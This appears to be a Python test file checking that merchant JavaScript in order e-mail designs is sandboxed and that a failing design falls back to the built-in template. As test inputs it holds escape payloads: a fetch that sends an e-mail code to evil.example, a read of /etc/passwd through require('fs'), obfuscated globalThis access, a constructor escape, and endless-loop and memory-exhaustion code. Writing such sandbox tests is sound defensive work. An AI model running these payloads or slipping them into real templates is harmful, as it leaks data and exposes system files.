"""Merchant code in an e-mail runs in the page sandbox: code that tries to escape (the network, modules,
the global object, an endless loop, all the memory, a huge output) gets a clear error, and the message is
still sent, from the built-in template (never an unsent order e-mail)."""

from __future__ import annotations

import pytest

from shared.db.repositories import outbox as outbox_repo
from shared.mail import enqueue_email, render_order_confirmation
from shared.mail.designs import Design, DesignBlock, DesignError, DesignErrorCode, default_design, using_designs
from shared.mail.designs.samples import render_kind, sample_order
from shared.mail.designs.service import save_design
from shared.sync.errors import RowRefused
from shared.sync.rules import check_row

HEAD = 'const schema = { name: "Escape", settings: [] };\nfunction render(ctx, h) { '

REFUSED = {
    "fetch": HEAD + 'fetch("https://evil.example/?" + ctx.email.code); return ""; }',
    "require": HEAD + 'const fs = require("fs"); return fs.readFileSync("/etc/passwd"); }',
    "import": HEAD + 'return import("node:fs"); }',
    "global object": HEAD + 'return String(globalThis["fe" + "tch"]("https://evil.example/")); }',
    "constructor": HEAD + 'return (() => 0).constructor("return this")(); }',
}
FAILING_AT_RUN = {
    "endless loop": (HEAD + "while (true) {} }", "timeout"),
    "huge output": (HEAD + 'let s = ""; for (let i = 0; i < 40000; i++) s += "<p>xxxx</p>"; return s; }', "output"),
    "all the memory": (HEAD + "const a = []; for (;;) a.push(new Array(1e6).fill(1)); }", "memory"),
    "throw": (HEAD + 'throw new Error("no data for you"); }', "error"),
}


def _with_custom(kind: str, code: str) -> Design:
    blocks = list(default_design(kind).blocks)
    blocks.insert(1, DesignBlock("custom", {}, code))
    return Design(kind, tuple(blocks))


@pytest.mark.parametrize("name", list(REFUSED))
def test_escaping_code_is_refused_when_saved_and_when_synced(db, name):
    with pytest.raises(DesignError) as caught:
        save_design(db, _with_custom("order_confirmation", REFUSED[name]))
    assert caught.value.code == DesignErrorCode.INVALID
    assert "is not allowed" in str(caught.value) or "not allowed" in str(caught.value)
    with pytest.raises(RowRefused):       # a push from a device carrying it is refused the same way
        check_row("email_designs", _with_custom("order_confirmation", REFUSED[name]).to_row(), key="order_confirmation")


@pytest.mark.parametrize("name", list(REFUSED))
def test_escaping_code_that_reached_a_render_anyway_falls_back(db, branding, name, monkeypatch):
    """A row that skipped the rules (a hand-edited file): the sandbox's own validator refuses the block."""
    from shared.mail.designs import render as render_module

    monkeypatch.setattr(render_module, "load_design", lambda _source, kind: _with_custom(kind, REFUSED[name]))
    failures: list[DesignError] = []
    with using_designs(db, failures=failures):
        email = render_kind("order_confirmation", branding)
    assert 'class="em-card em-wrap"' not in email.html and email.subject == "Order #1001 confirmed"
    assert failures and failures[0].code == DesignErrorCode.BLOCK_FAILED
    assert failures[0].failures[0][1:3] == ("custom", "invalid")


@pytest.mark.parametrize("name", list(FAILING_AT_RUN))
def test_code_failing_in_the_sandbox_gives_a_clear_error_and_the_builtin_email_is_queued(db, branding, name):
    code, expected = FAILING_AT_RUN[name]
    save_design(db, _with_custom("order_confirmation", code))
    order = sample_order()
    failures: list[DesignError] = []

    def write(conn):
        with using_designs(conn, failures=failures):
            return enqueue_email(conn, render_order_confirmation(order, branding), dedupe_key="order:1:confirmation")
    row_id = db.write(write)
    row = db.read(lambda conn: outbox_repo.get_row(conn, row_id))
    assert row is not None and "Order #1001 confirmed" in row.payload
    assert "em-card" not in row.payload                       # the built-in template went out
    assert len(failures) == 1
    position, kind, code_name, message = failures[0].failures[0]
    assert (position, kind, code_name) == (2, "custom", expected)
    assert message and "block 2 (custom) failed" in str(failures[0])
    # The other blocks and the next message are not harmed: a good design renders right after.
    save_design(db, default_design("order_confirmation"))
    with using_designs(db):
        assert 'class="em-card em-wrap"' in render_kind("order_confirmation", branding).html
